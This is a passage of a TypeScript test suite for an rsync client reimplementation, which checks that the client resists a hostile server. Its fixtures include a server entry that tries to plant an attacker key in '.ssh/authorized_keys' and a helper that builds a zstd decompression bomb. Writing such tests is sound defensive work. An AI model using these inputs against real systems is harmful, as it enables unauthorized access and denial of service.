    { entries: [{ name: "src", type: "d" }, F("src/a", "a\n"), { name: ".ssh", type: "d" }, F(".ssh/authorized_keys", "ssh-ed25519 evil\n")] },
    { code: 4, msg: /rejecting unrequested file-list name/, files: { ".ssh/authorized_keys": null } },
    { opts: ["-aR"], source: "src" },
  );
  evilCase(
    "an excluded name sent anyway",
    { entries: [ROOT, F("a.txt", "a\n"), F("old.secret", "overwritten\n")] },
    { code: 4, msg: /rejecting excluded file-list name: old\.secret/, files: { "old.secret": "mine\n" } },
    {
      opts: ["-a", "--exclude=*.secret"],
      prepare: (sc) => writeFileSync(join(sc.dest, "old.secret"), "mine\n"),
    },
  );
});

// ---- compressed token streams (the client fixes --zc, so nothing is negotiated) ----

/** A DEFLATED_DATA packet (token.c) around `data`, as hex. */
const packetHex = (data: Buffer): string => Buffer.concat([Buffer.of(0x40 | (data.length >> 8), data.length & 0xff), data]).toString("hex");
/** The start of a zstd frame (RFC 8878: no content size, a 2 MiB window) and then `n` RLE
 *  blocks of 128 KiB of "a": 4 bytes that decode to 128 KiB each. */
function zstdRleFrame(n: number): Buffer {
  const head = [0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x58];
  const h = ((1 << 17) << 3) | (1 << 1);
  const block = [h & 0xff, (h >>> 8) & 0xff, h >>> 16, 0x61];
  return Buffer.from([...head, ...Array.from({ length: n }, () => block).flat()]);
}

describe("malformed compressed data", () => {
  const garbage = Buffer.from("this is not compressed data at all, not zstd and not lz4");
  for (const zc of ["zstd", "lz4"]) {
    it(`--zc=${zc}: a packet that does not decode -> exit 12, nothing replaced`, async () => {
      const sc = scene({
        entries: [ROOT, F("old.txt", "replacement!\n", { mtime: 1_700_000_000, answer: [{ do: "transfer", tokens: [{ rawHex: packetHex(garbage) + "00" }] }] })],
      });
      const r = await runClient(sc, ["-a", `--zc=${zc}`]);
      const n = await runClient(scene({ entries: [ROOT, F("old.txt", "replacement!\n", { mtime: 1_700_000_000, answer: [{ do: "transfer", tokens: [{ rawHex: packetHex(garbage) + "00" }] }] })] }), ["-a", `--zc=${zc}`], { native: true });
      results.push({ name: `bad ${zc} packet`, krsync: summarize(r), native: summarize(n) });
      expect(n.code).toBe(12);
      expect(r.code, r.stderr).toBe(12);
      expect(r.stderr).toMatch(zc === "zstd" ? /ZSTD decompression failed/ : /uncompress failed/);
      expect(readFileSync(join(sc.dest, "old.txt"), "utf8")).toBe("precious\n");
      expect(tempFiles(sc.dest)).toEqual([]);
    });
  }
});

// ---- memory, time ----

describe("memory", () => {
  it("a 1 GiB literal streams through in bounded memory", async () => {
    const sc = scene({ entries: [ROOT, { name: "huge", type: "f", bigSize: 1 << 30, oneLiteral: true }] });
    const r = await runClient(sc, ["-a"], { rss: true, timeoutMs: 300_000 });
    results.push({ name: "1 GiB literal", krsync: `${summarize(r)} rss ${Math.round((r.maxRssKB ?? 0) / 1024)} MiB, ${r.ms} ms` });
    expect(r.code, r.stderr).toBe(0);
    expect(lstatSync(join(sc.dest, "huge")).size).toBe(1 << 30);
    expect(r.maxRssKB! / 1024).toBeLessThan(250);
    writeFileSync(join(sc.dest, "huge"), "");
  }, 300_000);

  it("a 1 GiB file in rsync's 32 KiB literal tokens, in bounded memory", async () => {
    const sc = scene({ entries: [ROOT, { name: "huge", type: "f", bigSize: 1 << 30 }] });
    const r = await runClient(sc, ["-a"], { rss: true, timeoutMs: 300_000 });
    results.push({ name: "1 GiB in 32 KiB tokens", krsync: `${summarize(r)} rss ${Math.round((r.maxRssKB ?? 0) / 1024)} MiB, ${r.ms} ms` });
    expect(r.code, r.stderr).toBe(0);
    expect(lstatSync(join(sc.dest, "huge")).size).toBe(1 << 30);
    expect(r.maxRssKB! / 1024).toBeLessThan(250);
    writeFileSync(join(sc.dest, "huge"), "");
  }, 300_000);

  it("--zc=zstd: one 16 KiB packet that decodes to 512 MiB streams through in bounded memory", async () => {
    const blocks = 4094;
    const frame = zstdRleFrame(blocks);
    expect(frame.length).toBeLessThanOrEqual(16383);
    const size = blocks * (1 << 17);
    const sc = scene({
      entries: [ROOT, F("bomb", "", { size, answer: [{ do: "transfer", tokens: [{ rawHex: packetHex(frame) + "00", decodes: [0x61, size] }] }] })],
    });
    const r = await runClient(sc, ["-a", "--zc=zstd"], { rss: true, timeoutMs: 300_000 });
    results.push({ name: "512 MiB zstd packet", krsync: `${summarize(r)} rss ${Math.round((r.maxRssKB ?? 0) / 1024)} MiB, ${r.ms} ms` });
    expect(r.code, r.stderr).toBe(0);
    expect(lstatSync(join(sc.dest, "bomb")).size).toBe(size);
    expect(r.maxRssKB! / 1024).toBeLessThan(250);
    writeFileSync(join(sc.dest, "bomb"), "");
  }, 300_000);

  it("a file list of 200k entries", async () => {
    const entries: EvilEntry[] = [ROOT];
    for (let d = 0; d < 200; d++) entries.push({ name: `d${d}`, type: "d" });
    for (let i = 0; i < 200_000; i++) entries.push({ name: `d${i % 200}/entry-with-a-longish-name-${i}`, type: "l", target: "t" });
    const sc = scene({ entries });
    // Without -l the symlinks are listed and skipped: this measures the file list itself.
    const r = await runClient(sc, ["-rt"], { rss: true, timeoutMs: 300_000 });
    results.push({ name: "200k-entry file list", krsync: `${summarize(r)} rss ${Math.round((r.maxRssKB ?? 0) / 1024)} MiB, ${r.ms} ms` });
    expect(r.code, r.stderr).toBe(0);
    expect(readdirSync(sc.dest).filter((n) => /^d\d+$/.test(n)).length).toBe(200);
    expect(r.maxRssKB! / 1024).toBeLessThan(400);
    expect(r.ms).toBeLessThan(60_000);
  }, 300_000);

  // The echoed sum head must be the one the generator sent, so a 512 MiB block never gets read.
  it("an absurd sum head echo at protocol 29 (one 512 MiB block) stays bounded", async () => {
    const sc = scene({
      entries: [ROOT, F("old.txt", "replacement!\n", { mtime: 1_700_000_000, answerTimes: 1, answer: [{ do: "transfer", sumHead: [1, 1 << 29, 2, 0], tokens: [{ block: 0 }, { end: true }], sum: "bad" }] })],
    });
    const r = await runClient(sc, ["-a", "--no-W", "-I", "--protocol=29"], { rss: true, timeoutMs: 120_000 });
    results.push({ name: "512 MiB block echo (p29)", krsync: `${summarize(r)} rss ${Math.round((r.maxRssKB ?? 0) / 1024)} MiB, ${r.ms} ms` });
    expect(tempFiles(sc.dest)).toEqual([]);
    expect(readFileSync(join(sc.dest, "old.txt"), "utf8")).toMatch(/^(precious|replacement!)\n$/);
    expect(r.maxRssKB! / 1024).toBeLessThan(250);
  }, 120_000);
});

// ---- --timeout and abort ----

function serverPid(r: { log: Record<string, unknown>[] }): number {
  const s = r.log.find((e) => e.ev === "start");
  if (!s) throw new Error("server never started");
  return s.pid as number;
}

async function gone(pid: number, withinMs: number): Promise<boolean> {
  const t0 = Date.now();
  for (;;) {
    try {
      process.kill(pid, 0);
    } catch {
      return true;
    }
    if (Date.now() - t0 > withinMs) return false;
    await new Promise((r) => setTimeout(r, 100));
  }
}

describe("--timeout and abort", () => {
  it("--timeout: a remote that stops in the middle of a file -> exit 30 after about the timeout", async () => {
    const sc = scene({ entries: [ROOT, F("old.txt", "", { mtime: 1_700_000_000, bigSize: 8 << 20, stallAt: 3 << 20 })] });
    const before = tree(sc.dest);
    const outsideBefore = tree(sc.outside);
    const r = await runClient(sc, ["-a", "--timeout=2"], { timeoutMs: 30_000 });
    results.push({ name: "--timeout=2, remote stalls mid-file", krsync: `${summarize(r)} after ${r.ms} ms` });
    expect(r.code, r.stderr).toBe(30);
    expect(r.stderr).toMatch(/io timeout after 2 seconds -- exiting/);
    expect(r.ms).toBeGreaterThan(1900);
    expect(r.ms).toBeLessThan(9000);
    checkSafe(sc, before, outsideBefore, r, { code: 30 }, "timeout");
    expect(await gone(serverPid(r), 5000), "the remote process is still running").toBe(true);
  });

  it("--timeout: a remote that stops before the file list -> exit 30", async () => {
    const sc = scene({ entries: [ROOT], afterSetup: [{ do: "hang" }] });
    const r = await runClient(sc, ["-a", "--timeout=2"], { timeoutMs: 30_000 });
    results.push({ name: "--timeout=2, remote stalls before the list", krsync: `${summarize(r)} after ${r.ms} ms` });
    expect(r.code, r.stderr).toBe(30);
    // krsync's own exit; the lingering process still holds the stderr it inherited (as it would
    // native rsync's), so the pipe closes only when it ends.
    expect(r.exitMs).toBeLessThan(9000);
    expect(await gone(serverPid(r), 5000), "the remote process is still running").toBe(true);
  });

  // A remote shell that leaves a process holding the pipes (sh -c without exec, a wrapper
  // script, a proxy): krsync kills its child, but the pipes stay open.
  it("--timeout with a lingering process behind the remote shell -> krsync still exits", async () => {
    const sc = scene({ entries: [ROOT], afterSetup: [{ do: "hang" }], hangMs: 12_000 });
    const r = await runClient(sc, ["-a", "--timeout=2"], { timeoutMs: 15_000, noExec: true });
    try {
      process.kill(serverPid(r), "SIGKILL");
    } catch {
      /* gone */
    }
    expect(r.code, r.stderr).toBe(30);
    // krsync's own exit; the lingering process still holds the stderr it inherited (as it would
    // native rsync's), so the pipe closes only when it ends.
    expect(r.exitMs).toBeLessThan(9000);
  });

  it("SIGINT in the middle of a file -> exit 20, temp file removed, remote gone", async () => {
    const sc = scene({ entries: [ROOT, F("old.txt", "", { mtime: 1_700_000_000, bigSize: 64 << 20, rate: 4 << 20 })] });
    const before = tree(sc.dest);
    const outsideBefore = tree(sc.outside);
    let sawTemp = false;
    const r = await runClient(sc, ["-a"], {
      timeoutMs: 60_000,
      onSpawn: (child) => {
        const t0 = Date.now();
        const poll = setInterval(() => {
          if (tempFiles(sc.dest).length > 0 || Date.now() - t0 > 20_000) {
            sawTemp = tempFiles(sc.dest).length > 0;
            clearInterval(poll);
            setTimeout(() => child.kill("SIGINT"), 300);
          }
        }, 50);
      },
    });
    results.push({ name: "SIGINT mid-file", krsync: `${summarize(r)} after ${r.ms} ms` });
    expect(sawTemp, "no transfer was under way").toBe(true);
    expect(r.code, r.stderr).toBe(20);
    expect(r.stderr).toMatch(/received SIGINT, SIGTERM, or SIGHUP/);
    checkSafe(sc, before, outsideBefore, r, { code: 20 }, "sigint");
    expect(await gone(serverPid(r), 5000), "the remote process is still running").toBe(true);
  });
});
